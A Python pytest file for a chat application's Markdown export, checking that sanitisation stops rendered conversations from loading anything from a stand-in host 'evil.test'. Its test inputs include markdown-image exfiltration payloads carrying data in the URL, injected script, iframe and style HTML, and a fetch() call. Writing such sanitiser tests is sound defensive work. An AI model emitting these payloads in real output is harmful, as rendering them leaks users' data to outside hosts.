"""The Markdown export opened in a viewer that renders raw HTML and loads images (CommonMark with
HTML on, plus tables): hostile answers, arguments, results and names load nothing, while what the
page shows (text, links, code) is still there."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from html import escape
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from switchboard.chat.views.markdown import export_markdown
from switchboard.chat.views.markdown_safe import code_span, fenced, safe_markdown
from switchboard.store import Conversation, Message

EVIL = "evil.test"

HOSTILE_ANSWERS = {
    "image": "Here: ![chart](https://evil.test/x?d=secret)",
    "reference image": "![a][r]\n\n[r]: https://evil.test/r",
    "inline html": "see <img src=https://evil.test/i> now",
    "html block": '<iframe src="https://evil.test/f"></iframe>',
    "script block": "<script>\n\nfetch('https://evil.test/js')\n\n</script>",
    "image in a link": "[![x](https://evil.test/n)](https://example.org/ok)",
    "code span over lines": "`x\n<div><img src=https://evil.test/c>` and more",
    "code span past a heading": "# title `x\na <img src=https://evil.test/h> `",
    "code span in a table": "| a | b |\n|---|---|\n| `x | <img src=https://evil.test/t> ` |",
    "list item html": "- <div>\n  <img src=https://evil.test/li>\n  </div>",
    "quote html": "> <video src=https://evil.test/v></video>",
    "escaped backslash": "\\\\![x](https://evil.test/bs)",
    "style": "<style>body{background:url(https://evil.test/s)}</style>",
}


class _Loads(HTMLParser):
    """What a browser would fetch by itself from the rendered HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.loads: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if tag == "a" and name == "href":
                continue
            if value and EVIL in value:
                self.loads.append(f"<{tag} {name}={value}>")
        if tag in {"img", "iframe", "video", "audio", "source", "script", "style", "link", "object", "embed", "svg"}:
            self.loads.append(f"<{tag}>")

    def handle_data(self, data: str) -> None:
        if "url(" in data and EVIL in data and self.lasttag == "style":
            self.loads.append(data)


def viewer(markdown: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown)


def loads(markdown: str) -> list[str]:
    parser = _Loads()
    parser.feed(viewer(markdown))
    return parser.loads


@pytest.mark.parametrize("answer", HOSTILE_ANSWERS.values(), ids=HOSTILE_ANSWERS.keys())
def test_a_hostile_answer_loads_nothing_in_a_viewer(answer):
    assert loads(answer), "the case is hostile as written"
    assert loads(safe_markdown(answer)) == [], safe_markdown(answer)


def test_an_image_becomes_a_link_with_its_alt_text_and_what_the_page_shows_stays():
    html = viewer(
        safe_markdown("Here: ![chart](https://evil.test/x?d=secret) and `List<int>`, a < b, <https://example.org>")
    )
    assert '!<a href="https://evil.test/x?d=secret">chart</a>' in html
    assert "<code>List&lt;int&gt;</code>" in html and "a &lt; b" in html
    assert '<a href="https://example.org">https://example.org</a>' in html
    fence = "```python\nx = '<img src=a>'\n```"
    assert safe_markdown(fence) == fence


def test_fences_and_code_spans_hold_any_backticks():
    text = "a ``` b ```` c\n```\n![x](https://evil.test/f)"
    html = viewer(fenced(text))
    assert loads(fenced(text)) == [] and html.count("<pre>") == 1
    assert "```` c" in html
    assert viewer(code_span("a`b``c")).strip() == "<p><code>a`b``c</code></p>"
    assert viewer(code_span("`x`")).strip() == "<p><code>`x`</code></p>"


def _message(n: int, role: str, content: str, **data) -> Message:
    return Message(f"m{n}", "c1", f"m{n - 1}" if n else None, n, role, content, data, datetime.now(UTC))  # type: ignore[arg-type]


def test_a_whole_export_with_hostile_parts_loads_nothing():
    now = datetime.now(UTC)
    arguments = {"q": "`` ![x](https://evil.test/arg) ``", "u": "` <img src=https://evil.test/arg2> `"}
    messages = [
        _message(0, "user", "<img src=https://evil.test/user>"),
        _message(1, "assistant", "Let me look.\n\n```\nthe answer leaves this fence open"),
        _message(
            2,
            "tool",
            "````\n![x](https://evil.test/res)\n<img src=https://evil.test/res2>",
            tool="t_`x`",
            ok=True,
            arguments=arguments,
            artifacts=[{"name": "![n](https://evil.test/name)"}],
        ),
        _message(
            3,
            "assistant",
            "Done ![y](https://evil.test/done)",
            finish_reason="error",
            error={"message": "<img src=https://evil.test/err>"},
        ),
    ]
    conversation = Conversation("c1", "a@b", "<img src=https://evil.test/title>", "m", None, (), "m3", 4, now, now)
    markdown = export_markdown(conversation, messages)
    assert loads(markdown) == [], markdown
    html = viewer(markdown)
    assert html.count("<pre>") == 3, html  # the answer's fence (closed), the arguments, the result
    assert escape(json.dumps(arguments, ensure_ascii=False), quote=False).replace('"', "&quot;") in html
    assert "<code>t_`x`</code>" in html and "Done !" in html
